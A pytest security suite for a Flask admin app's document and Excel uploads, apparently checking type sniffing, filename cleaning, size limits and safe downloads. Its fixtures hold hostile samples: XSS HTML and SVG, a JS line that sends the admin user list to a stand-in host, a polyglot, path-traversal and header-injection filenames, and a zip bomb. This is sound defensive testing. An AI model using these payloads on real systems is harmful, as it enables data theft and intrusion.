"""Uploads, every way in: documents (the form, a new file on edit, an event's records and photos, the move-in and
permit upload buttons all post to the same form) and the Excel importer.

For each: an oversized file is refused in Chinese with nothing stored and no row; the type is read from the
bytes, never from the name or the browser's Content-Type; hostile names are cleaned and never reach the
filesystem (the stored path is the sha256 alone); downloads are authorised attachments with the stored
type, nosniff and an RFC 5987 name; the importer takes real xlsx workbooks only.
"""
from __future__ import annotations

import dataclasses
import hashlib
import io
import re
import struct
import zipfile
import zlib
from html import unescape
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest
from sqlalchemy import func, select

from app import community, storage
from app.extensions import db
from schema import Document

from . import factories
from .security_figures import record

pytestmark = pytest.mark.security

FIGURES = {"cases": 0}
ROOT = Path(__file__).resolve().parent.parent


# -- files ------------------------------------------------------------------------------------------
def pdf(body: bytes = b"1 0 obj<</Type/Catalog>>endobj") -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"\ntrailer<<>>\n%%EOF\n"


def png() -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"


def zip_of(entries: dict) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return buf.getvalue()


def xlsx(headers, rows) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(headers)
    for row in rows:
        book.active.append(row)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
JS = b"fetch('/admin/app_user/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"This program cannot be run"
ZIP = zip_of({"readme.txt": "hi"})
POLYGLOT = b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"
"""A PDF header in front of HTML: refused (markup in the first kilobyte), never stored as a PDF."""


# -- helpers ----------------------------------------------------------------------------------------
@pytest.fixture
def login(app, users):
    """conftest's `login`, landing on a light page (search) rather than the dashboard."""
    from .conftest import PASSWORD, Browser

    def sign_in(role):
        b = Browser(app)
        b.get("/login")
        assert b.post("/login", {"username": role, "password": PASSWORD}).status_code == 302
        b.get("/admin/search/")  # a light page carrying the new session's CSRF token
        return b
    return sign_in


def text_of(resp) -> str:
    return unescape(resp.get_data(as_text=True))


def stored_files(app) -> set[Path]:
    root = Path(app.config["UPLOAD_FOLDER"])
    return {p for p in root.rglob("*") if p.is_file() and "imports" not in p.relative_to(root).parts} \
        if root.exists() else set()


def import_files(app) -> set[Path]:
    folder = Path(app.config["UPLOAD_FOLDER"]) / "imports"
    return set(folder.iterdir()) if folder.exists() else set()


def an_owner(app) -> int:
    with app.app_context():
        owner = factories.owner()
        db.session.commit()
        return owner.id


def documents(app) -> list[Document]:
    with app.app_context():
        rows = db.session.scalars(select(Document).order_by(Document.id)).all()
        db.session.expunge_all()
        return rows


def post_document(b, url, content, name, mimetype=None, **fields):
    upload = (io.BytesIO(content), name, mimetype) if mimetype else (io.BytesIO(content), name)
    return b.post(url, {"doc_type": "id_copy", "title": fields.pop("title", "身份证复印件"), **fields, "upload": upload},
                  content_type="multipart/form-data")


class UploadPoint:
    """One way a document file comes in: (url, form fields) for a new upload, and how to tell it landed."""

    def __init__(self, name, prepare):
        self.name, self.prepare = name, prepare

    def __repr__(self):
        return self.name


def _document_form(app):
    return "/admin/document/new/", {"owner": an_owner(app)}


def _event_photo(app):
    with app.app_context():
        event = factories.community_event()
        db.session.commit()
        eid = event.id
    return (f"/admin/document/new/?ref_table={community.EVENT_TABLE}&ref_id={eid}&doc_type=other",
            {"ref_table": community.EVENT_TABLE, "ref_id": eid, "doc_type": "other", "title": "活动照片"})


def _move_in_button(app):
    with app.app_context():
        m = factories.move_in()
        db.session.commit()
        mid, oid, uid = m.id, m.owner_id, m.unit_id
    return (f"/admin/document/new/?owner={oid}&unit={uid}&doc_type=id_copy&ref_table=move_in&ref_id={mid}",
            {"owner": oid, "unit": uid, "ref_table": "move_in", "ref_id": mid})


def _new_file_on_edit(app):
    with app.app_context():
        doc = factories.document()
        db.session.commit()
        did, oid, version = doc.id, doc.owner_id, doc.version
    return f"/admin/document/edit/?id={did}", {"owner": oid, "row_version": version}


POINTS = [UploadPoint("document form", _document_form), UploadPoint("event photo", _event_photo),
          UploadPoint("move-in upload button", _move_in_button), UploadPoint("new file on edit", _new_file_on_edit)]


# -- 0. the upload points are these ----------------------------------------------------------------------
def test_every_upload_point_is_one_of_those_tested():
    """A new FileField or request.files elsewhere must join this suite."""
    readers = set()
    for folder in ("admin_views", "app"):
        for path in (ROOT / folder).rglob("*.py"):
            source = path.read_text(encoding="utf-8")
            if re.search(r"request\.files|FileField\(", source):
                readers.add(path.relative_to(ROOT).as_posix())
    assert readers == {"admin_views/documents.py", "admin_views/importing.py"}, readers


# -- 1. size ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize("point", POINTS, ids=repr)
def test_an_oversized_file_is_refused_in_chinese_with_nothing_stored(app, login, point):
    url, fields = point.prepare(app)
    b = login("frontdesk")
    before_files, before_rows = stored_files(app), documents(app)
    big = pdf(b"0" * (app.config["MAX_UPLOAD_BYTES"] + 1))
    resp = post_document(b, url, big, "扫描件.pdf", **fields)
    assert resp.status_code == 200 and "文件过大" in text_of(resp)
    assert stored_files(app) == before_files  # not even a temporary file is left
    assert [(d.id, d.version, d.sha256) for d in documents(app)] == [(d.id, d.version, d.sha256) for d in before_rows]
    FIGURES["cases"] += 1


def test_a_request_over_the_servers_limit_gets_the_chinese_413_page(app, login, monkeypatch):
    url, fields = _document_form(app)
    b = login("frontdesk")
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 4096)
    resp = post_document(b, url, pdf(b"0" * 8192), "big.pdf", **fields)
    assert resp.status_code == 413 and "文件过大" in text_of(resp)
    assert documents(app) == []
    FIGURES["cases"] += 1


# -- 2. type by content, not by name ---------------------------------------------------------------------
ACCEPTED = [  # (content, name, browser's type, stored type, stored name)
    (png(), "x.pdf", "application/pdf", "image/png", "x.png"),
    (pdf(), "x.png", "image/png", "application/pdf", "x.pdf"),
    (jpeg(), "相片.gif", "image/gif", "image/jpeg", "相片.jpg"),
    (pdf(), "合同", None, "application/pdf", "合同.pdf"),
    (png(), "scan.PNG.exe", "application/octet-stream", "image/png", "scan.PNG.png"),
]
REFUSED = [  # (content, name, browser's type)
    (HTML, "x.pdf", "application/pdf"), (HTML, "x.png", "image/png"), (HTML, "x.jpg", "image/jpeg"),
    (SVG, "x.png", "image/svg+xml"), (SVG, "x.svg", "image/svg+xml"), (SVG, "x.pdf", "application/pdf"),
    (JS, "x.jpg", "image/jpeg"), (JS, "x.js", "text/javascript"),
    (EXE, "x.pdf", "application/pdf"), (EXE, "x.png", "image/png"),
    (ZIP, "x.jpg", "image/jpeg"), (ZIP, "x.pdf", "application/pdf"),
    (POLYGLOT, "x.pdf", "application/pdf"),
    (b"%PDF-1.4\n1 0 obj<<>>endobj\n", "cut.pdf", "application/pdf"),  # no %%EOF: not a whole PDF
    (b"\x89PNG\r\n\x1a\n<svg onload=alert(1)>", "x.png", "image/png"),  # a PNG signature and no IHDR
    (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "x.gif", "image/gif"),
    (b"\xff\xd8\xff\xe0<html><script>alert(1)</script>", "x.jpg", "image/jpeg"),
]


@pytest.mark.parametrize("content,name,sent,kind,stored_name", ACCEPTED,
                         ids=[c[1] for c in ACCEPTED])
def test_the_stored_type_is_read_from_the_bytes(app, login, content, name, sent, kind, stored_name):
    url, fields = _document_form(app)
    resp = post_document(login("frontdesk"), url, content, name, sent, **fields)
    assert resp.status_code == 302, text_of(resp)[-1500:]
    doc = documents(app)[-1]
    assert (doc.content_type, doc.filename, doc.size) == (kind, stored_name, len(content))
    assert doc.sha256 == hashlib.sha256(content).hexdigest()
    with app.app_context():
        assert storage.path_for(doc.sha256).read_bytes() == content
    FIGURES["cases"] += 1


@pytest.mark.parametrize("point", POINTS, ids=repr)
@pytest.mark.parametrize("content,name,sent", REFUSED, ids=[f"{i}-{c[1]}" for i, c in enumerate(REFUSED)])
def test_anything_but_pdf_jpeg_png_is_refused_whatever_its_name(app, login, point, content, name, sent):
    url, fields = point.prepare(app)
    before_files, before_rows = stored_files(app), documents(app)
    resp = post_document(login("frontdesk"), url, content, name, sent, **fields)
    assert resp.status_code == 200 and "文件类型不支持" in text_of(resp), text_of(resp)[-800:]
    assert stored_files(app) == before_files
    assert [(d.id, d.version, d.sha256) for d in documents(app)] == [(d.id, d.version, d.sha256) for d in before_rows]
    FIGURES["cases"] += 1


def test_an_empty_file_is_refused(app, login):
    url, fields = _document_form(app)
    resp = post_document(login("frontdesk"), url, b"", "空.pdf", **fields)
    assert resp.status_code == 200 and "文件为空" in text_of(resp) and documents(app) == []
    FIGURES["cases"] += 1


# -- 3. names ------------------------------------------------------------------------------------------
NAMES = [  # (the name sent, the name kept)
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\Windows\\system.ini.pdf", "system.ini.pdf"),
    ("C:\\Users\\王\\合同.pdf", "合同.pdf"),
    ("a\x00b.pdf", "ab.pdf"),
    ("invoice\u202efdp.exe", "invoicefdp.pdf"),  # RTL override: would read "invoiceexe.pdf"
    ("\u200bzero\u200dwidth\ufeff.pdf", "zerowidth.pdf"),
    ("CON.pdf", "_CON.pdf"),
    ("nul.tar.pdf", "_nul.tar.pdf"),
    ("com1", "_com1.pdf"),
    ("LPT9.txt", "_LPT9.pdf"),
    ('quote"<script>:|?*.pdf', "quotescript.pdf"),
    ("line\r\nbreak.pdf", "linebreak.pdf"),
    ("  . ..hidden. .pdf", "hidden.pdf"),
    ("....", "file.pdf"),
    ("", "file.pdf"),
    ("长" * 300 + ".pdf", "长" * storage.MAX_STEM + ".pdf"),
]


@pytest.mark.parametrize("sent,kept", NAMES, ids=[repr(n[0][:20]) for n in NAMES])
def test_names_are_cleaned_for_display_only(sent, kept):
    assert storage.clean_name(sent, ".pdf") == kept
    FIGURES["cases"] += 1


HTTP_NAMES = [(sent, kept) for sent, kept in NAMES if not set(sent) & set('\x00\r\n"\\') and sent]
"""Names a browser can send as they are (it percent-encodes quotes and line breaks; the test client would not)."""


@pytest.mark.parametrize("sent,kept", HTTP_NAMES + [("..\\..\\Windows\\system.ini.pdf", None),
                                                   ("C:\\Users\\王\\合同.pdf", None)],
                         ids=lambda v: repr(v[:20]) if isinstance(v, str) else None)
def test_no_name_from_the_user_reaches_the_filesystem(app, login, sent, kept):
    url, fields = _document_form(app)
    content = pdf(sent.encode("utf-8", "replace"))  # distinct bytes per case
    before = stored_files(app)
    resp = post_document(login("frontdesk"), url, content, sent, **fields)
    assert resp.status_code == 302, text_of(resp)[-1500:]
    doc = documents(app)[-1]
    if kept is not None:
        assert doc.filename == kept
    assert not set(doc.filename) & set("/\\\x00\r\n\u202e") and doc.filename.endswith(".pdf")
    root = Path(app.config["UPLOAD_FOLDER"])
    added = stored_files(app) - before
    assert added == {root / doc.sha256[:2] / doc.sha256[2:4] / doc.sha256}
    assert not [p for p in root.rglob("*") if "passwd" in p.name or "etc" == p.name or ".upload-" in p.name]
    FIGURES["cases"] += 1


# -- 4. downloads ------------------------------------------------------------------------------------
def uploaded(app, login, content=None, name="身份证 复印件.pdf") -> int:
    url, fields = _document_form(app)
    assert post_document(login("frontdesk"), url, content or pdf(), name, **fields).status_code == 302
    return documents(app)[-1].id


@pytest.mark.parametrize("content,name,kind", [(pdf(), "身份证 复印件.pdf", "application/pdf"),
                                               (png(), "门禁 照片.png", "image/png"),
                                               (jpeg(), "photo.jpg", "image/jpeg")])
def test_download_is_an_attachment_of_the_stored_type_never_sniffed(app, login, content, name, kind):
    did = uploaded(app, login, content, name)
    resp = login("maintenance").get(f"/admin/document/download/?id={did}")
    assert resp.status_code == 200 and resp.data == content
    assert resp.mimetype == kind
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    disposition = resp.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=UTF-8''{quote(name, safe='')}" in disposition
    fallback = re.search(r'filename="([^"]*)"', disposition).group(1)
    assert fallback.isascii() and fallback.endswith(Path(name).suffix) and "/" not in fallback
    assert "no-store" in resp.headers["Cache-Control"]
    FIGURES["cases"] += 1


def test_a_tampered_row_is_still_served_safely(app, login):
    """A type or name changed in the database (an old import, a script) cannot make the download render."""
    did = uploaded(app, login)
    with app.app_context():
        doc = db.session.get(Document, did)
        doc.content_type, doc.filename = "text/html", 'evil"\r\nSet-Cookie: a=b\r\n<script>.html'
        db.session.commit()
    resp = login("admin").get(f"/admin/document/download/?id={did}")
    assert resp.status_code == 200 and resp.mimetype == "application/octet-stream"
    disposition = resp.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "\r" not in disposition and "\n" not in disposition
    assert not [c for c in resp.headers.getlist("Set-Cookie") if c.startswith("a=")] and "<" not in disposition
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    FIGURES["cases"] += 1


def test_download_needs_a_signed_in_reader(app, login, browser, monkeypatch):
    did = uploaded(app, login)
    anonymous = browser.get(f"/admin/document/download/?id={did}")
    assert anonymous.status_code == 302 and "/login" in anonymous.location
    view = next(v for v in app.extensions["propdesk_admin"]._views if getattr(v, "endpoint", None) == "document")
    readers = dataclasses.replace(view.spec.roles, read=frozenset({"admin", "frontdesk"}))
    monkeypatch.setattr(view, "spec", dataclasses.replace(view.spec, roles=readers))
    assert login("maintenance").get(f"/admin/document/download/?id={did}").status_code == 403
    assert login("frontdesk").get(f"/admin/document/download/?id={did}").status_code == 200
    for bad in ("0", "-1", "abc", "../../etc/passwd", "99999999999", f"{did}%00"):
        assert login("admin").get(f"/admin/document/download/?id={bad}").status_code == 404
    FIGURES["cases"] += 3


def test_a_stored_path_outside_the_digest_form_is_never_opened(app):
    with app.app_context():
        for sha in ("../../etc/passwd", "a" * 63, "A" * 64, "g" * 64, "a" * 64 + "/.."):
            with pytest.raises(storage.UploadError):
                storage.path_for(sha)
    FIGURES["cases"] += 5


# -- 5. the Excel importer -----------------------------------------------------------------------------
OWNER_HEADERS = ["类别", "姓名/单位名称", "证件类型", "证件号码", "联系电话", "单位联系人", "通讯地址", "备注"]


def import_upload(b, data, name="owners.xlsx"):
    return b.post("/admin/import/upload/", {"kind": "owner", "file": (io.BytesIO(data), name)},
                  content_type="multipart/form-data")


def docx() -> bytes:
    return zip_of({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})


def bomb() -> bytes:
    return zip_of({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>",
                   "xl/worksheets/sheet1.xml": "<row/>" * 3_000_000})


IMPORT_REFUSED = [  # (content, name, message)
    (b"%PDF-1.4\n%%EOF", "owners.xlsx", "文件内容不是 .xlsx 格式"),
    (HTML, "owners.xlsx", "文件内容不是 .xlsx 格式"),
    (EXE, "owners.xlsx", "文件内容不是 .xlsx 格式"),
    (ZIP, "owners.xlsx", "这不是 Excel 工作簿"),
    (docx(), "owners.xlsx", "这不是 Excel 工作簿"),
    (b"PK\x03\x04" + b"\x00" * 100, "owners.xlsx", "压缩结构已损坏"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "owners.xlsx", "旧格式或加密"),
    (xlsx(OWNER_HEADERS, []), "owners.pdf", "请上传 .xlsx 格式"),
    (xlsx(OWNER_HEADERS, []), "owners.csv", "不支持 .csv"),
    (b"", "owners.xlsx", "文件是空的"),
]


@pytest.mark.parametrize("content,name,message", IMPORT_REFUSED, ids=[m for _c, _n, m in IMPORT_REFUSED])
def test_the_importer_takes_real_xlsx_workbooks_only(app, login, content, name, message):
    b = login("admin")
    before = import_files(app)
    resp = import_upload(b, content, name)
    assert resp.status_code == 400 and message in text_of(resp), text_of(resp)[-1500:]
    assert import_files(app) == before
    assert b.get("/admin/import/preview/").status_code == 302  # nothing pending
    FIGURES["cases"] += 1


def test_an_unpacking_bomb_is_refused_before_it_is_read(app, login, monkeypatch):
    monkeypatch.setitem(app.config, "IMPORT_MAX_BYTES", 100_000)
    data = bomb()
    assert len(data) < 100_000
    b = login("admin")
    before = import_files(app)
    resp = import_upload(b, data)
    assert resp.status_code == 400 and "解压后过大" in text_of(resp)
    assert import_files(app) == before
    FIGURES["cases"] += 1


def test_an_oversized_workbook_is_refused_with_nothing_kept(app, login, monkeypatch):
    monkeypatch.setitem(app.config, "IMPORT_MAX_BYTES", 2000)
    b = login("admin")
    rows = [["个人", f"业主{i}", "居民身份证", factories.resident_id(serial=i), factories.mobile(), None, "1栋", None]
            for i in range(60)]
    before = import_files(app)
    resp = import_upload(b, xlsx(OWNER_HEADERS, rows))
    assert resp.status_code == 400 and "文件过大" in text_of(resp)
    assert import_files(app) == before
    FIGURES["cases"] += 1


def test_an_import_file_name_is_cleaned_before_it_is_shown_or_sent(app, login):
    b = login("admin")
    rows = [["个人", "王一", "居民身份证", factories.resident_id(serial=901), "13800000001", None, None, None],
            ["个人", "王二", "居民身份证", "123", "13800000002", None, None, None]]
    resp = import_upload(b, xlsx(OWNER_HEADERS, rows), "../../业主\u202e名单<script>.xlsx")
    assert resp.status_code == 302
    preview = text_of(b.get("/admin/import/preview/"))
    assert "<script>" not in preview and "\u202e" not in preview
    report = b.get("/admin/import/report.xlsx")
    disposition = report.headers["Content-Disposition"]
    assert report.status_code == 200 and disposition.startswith("attachment;")
    assert f"filename*=UTF-8''{quote('业主名单script_错误报告.xlsx')}" in disposition
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(factories.Owner)) == 0
    FIGURES["cases"] += 1


def test_a_real_workbook_still_imports(app, login):
    b = login("admin")
    rows = [["个人", "王一", "居民身份证", factories.resident_id(serial=902), "13800000001", None, None, None]]
    assert import_upload(b, xlsx(OWNER_HEADERS, rows), "业主.xlsx").status_code == 302
    assert "已导入业主 1 条" in text_of(b.post("/admin/import/commit/"))
    FIGURES["cases"] += 1


@pytest.fixture(scope="module", autouse=True)
def _figures():
    yield
    if FIGURES["cases"]:
        record("uploads", cases=FIGURES["cases"], upload_points=len(POINTS) + 1)
